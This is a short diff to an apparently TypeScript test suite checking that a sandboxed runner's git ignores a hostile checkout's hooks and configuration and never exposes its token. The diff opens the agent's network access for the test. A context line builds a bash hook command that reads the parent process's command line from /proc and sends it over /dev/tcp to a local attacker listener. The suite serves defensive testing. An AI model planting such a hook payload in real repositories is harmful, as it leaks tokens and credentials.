@@ -117,6 +117,9 @@ describe.skipIf(!bubblewrap).each(testDialects())('a hostile workspace cannot re
   });
 
   it("the runner's git runs none of the checkout's hooks or configuration and never shows the token", async () => {
+    // The most permissive network: the agent can reach the listener, so only the git hardening stands between.
+    const open = await api(server, 'PATCH', `/repos/${name()}`, { token: owner.token, body: { agent_network: 'open' } });
+    expect(open.status, open.text).toBe(200);
     const port = attacker.port;
     const send = (what: string) => `bash -c 'echo ${what} \\$(tr "\\\\0" " " < /proc/\\$PPID/cmdline) > /dev/tcp/127.0.0.1/${port}'`;
     const hooks = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout', 'post-index-change'];
